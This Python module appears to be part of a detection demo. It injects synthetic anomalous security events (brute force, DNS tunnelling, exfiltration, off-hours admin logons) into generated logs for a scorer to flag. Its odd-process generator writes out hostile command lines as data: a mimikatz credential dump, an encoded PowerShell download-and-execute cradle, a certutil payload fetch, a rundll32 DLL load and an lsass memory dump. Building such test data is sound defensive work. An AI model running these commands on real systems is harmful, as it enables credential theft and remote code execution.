"""Injected anomalies: one event per requested kind (:data:`ANOMALY_KINDS`), off the actor's normal
behaviour in one or a few fields only, built with the normal event builders."""

from __future__ import annotations

import base64
import math
from typing import Final

import numpy as np

from scorer.demo.catalogue import (
    _ATTACKER_NETS,
    _BASE32,
    _DAY_MS,
    _HOUR_MS,
    _SENSITIVE_OPS,
    _TUNNEL_DOMAINS,
    _UNUSUAL_REGIONS,
    _Dest,
    _Proc,
)
from scorer.demo.events import (
    Event,
    _api_event,
    _auth_event,
    _dns_event,
    _Draws,
    _network_event,
    _process_event,
)
from scorer.demo.world import _Actor, _World

ANOMALY_KINDS: Final[tuple[str, ...]] = (
    "brute_force",
    "impossible_region",
    "exfiltration",
    "rare_port",
    "odd_process",
    "dns_tunnel",
    "off_hours_admin",
)


def _external_ip(d: _Draws) -> str:
    return f"{d.pick(_ATTACKER_NETS)}{d.randint(2, 255)}"


def _slot_time(d: _Draws, start: int, end: int, weekdays: tuple[int, ...], h_lo: int, h_hi: int) -> int:
    """A random time at hours ``[h_lo, h_hi)`` of one of ``weekdays`` (0 = Monday) at or after ``start``.

    Slots inside ``[start, end)`` are preferred; if the window has none, the first one after it is used.
    """
    slots: list[tuple[int, int]] = []
    day = start // _DAY_MS
    while True:
        if (day + 3) % 7 in weekdays:  # 1970-01-01 was a Thursday
            lo = max(day * _DAY_MS + h_lo * _HOUR_MS, start)
            hi = day * _DAY_MS + h_hi * _HOUR_MS
            if lo < hi and (lo < end or not slots):
                slots.append((lo, min(hi, end) if lo < end else hi))
        day += 1
        if day * _DAY_MS >= end and slots:
            break
    lo, hi = d.pick(slots)
    return lo + int(d.u() * (hi - lo))


def _random_label(rng: np.random.Generator, length: int) -> str:
    return "".join(_BASE32[int(i)] for i in rng.integers(0, len(_BASE32), size=length))


def _anomalies(
    world: _World, kinds: list[str], rng: np.random.Generator, start: int, end: int
) -> list[tuple[int, Event, str]]:
    """Build one event per entry of ``kinds``; returns ``(time, event, kind)``."""
    out: list[tuple[int, Event, str]] = []
    d = _Draws(rng)
    tunnel_domain = d.pick(_TUNNEL_DOMAINS)  # one tunnel per call
    workdays = (0, 1, 2, 3, 4)
    everyday = (0, 1, 2, 3, 4, 5, 6)
    span = max(1, end - start)

    burst_victim = d.pick(world.humans)
    burst_ip = _external_ip(d)
    burst_t = start + int(d.u() * span)
    in_burst = 0
    for kind in kinds:
        if kind == "brute_force":
            if in_burst == 6:  # a new campaign: another victim, source and time
                burst_victim = d.pick(world.humans)
                burst_ip = _external_ip(d)
                burst_t = start + int(d.u() * span)
                in_burst = 0
            burst_t += d.randint(1_000, 20_000)
            in_burst += 1
            event = _auth_event(
                burst_t,
                d,
                burst_victim,
                src_ip=burst_ip,
                dst_host="vpn-gw",
                protocol="RADIUS",
                logon_type_id=3,
                is_mfa=False,
                success=False,
            )
            out.append((burst_t, event, kind))
            continue
        a = d.pick(world.humans)
        if kind == "impossible_region":
            t = start + int(d.u() * span)
            service, operation = d.pick(_SENSITIVE_OPS)
            src = a.ip if d.below(0.5) else _external_ip(d)
            event = _api_event(
                t,
                d,
                a,
                service=service,
                operation=operation,
                region=d.pick(_UNUSUAL_REGIONS),
                src_ip=src,
                success=True,
            )
        elif kind == "exfiltration":
            t = _slot_time(d, start, end, everyday, 1, 5)
            dest = _Dest(_external_ip(d), 443, 8.0, 8.5)
            bytes_out = int(math.exp(dest.out_mu) * (100.0 + 900.0 * d.u()))
            event = _network_event(t, d, a.ip, dest, bytes_out, d.lognormal(8.5, 0.8), d.lognormal(11.0, 0.7))
        elif kind == "rare_port":
            t = _slot_time(d, start, end, workdays, 9, 17)
            dest = _Dest(_external_ip(d), d.pick((4444, 31337, 1337, 6667)), 9.0, 9.5)
            event = _network_event(
                t, d, a.ip, dest, d.lognormal(9.0, 1.0), d.lognormal(9.5, 1.0), d.lognormal(12.0, 1.0)
            )
        elif kind == "odd_process":
            t = _slot_time(d, start, end, workdays, 9, 17)
            event = _odd_process(t, d, a, rng)
        elif kind == "dns_tunnel":
            t = _slot_time(d, start, end, workdays, 9, 17)
            labels = (_random_label(rng, d.randint(40, 64)), _random_label(rng, d.randint(8, 20)))
            name = f"{labels[0]}.{labels[1]}.{tunnel_domain}"
            rdata = base64.b64encode(rng.bytes(d.randint(30, 120))).decode("ascii")
            event = _dns_event(t, d, a.ip, name, "TXT", 0, rdata)
        elif kind == "off_hours_admin":
            admin = d.pick(world.admins)
            t = _slot_time(d, start, end, (6,), 3, 4)
            event = _auth_event(
                t,
                d,
                admin,
                src_ip=admin.ip,
                dst_host=d.pick(("dc01", "fs01")),
                protocol="Kerberos",
                logon_type_id=10,
                is_mfa=True,
                success=True,
            )
        else:  # pragma: no cover - kinds come from ANOMALY_KINDS
            raise ValueError(f"unknown anomaly kind {kind!r}")
        out.append((t, event, kind))
    return out


def _odd_process(t: int, d: _Draws, a: _Actor, rng: np.random.Generator) -> Event:
    host = d.pick(a.hosts)
    temp = f"C:\\Users\\{a.name}\\AppData\\Local\\Temp"
    variant = d.randint(0, 5)
    if variant == 0:
        proc = _Proc("mimikatz.exe", f"{temp}\\mimikatz.exe", "cmd.exe", ())
        cmd = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
    elif variant == 1:
        url = f"http://{_external_ip(d)}/{_random_label(rng, 6)}.ps1"
        script = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
        parent = d.pick(("WINWORD.EXE", "OUTLOOK.EXE", "EXCEL.EXE"))
        proc = _Proc(
            "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", parent, ()
        )
        cmd = f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded}"
    elif variant == 2:
        proc = _Proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "cmd.exe", ())
        cmd = f"certutil.exe -urlcache -split -f http://{_external_ip(d)}/a.exe C:\\Users\\Public\\a.exe"
    elif variant == 3:
        proc = _Proc("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "EXCEL.EXE", ())
        cmd = f"rundll32.exe C:\\Users\\Public\\{_random_label(rng, 8)}.dll,DllRegisterServer"
    else:
        proc = _Proc("procdump64.exe", f"{temp}\\procdump64.exe", "cmd.exe", ())
        cmd = "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"
    return _process_event(
        t, d, host=host, linux=False, user=a.name, proc=proc, parent=proc.parent, cmd=cmd, path=proc.path
    )
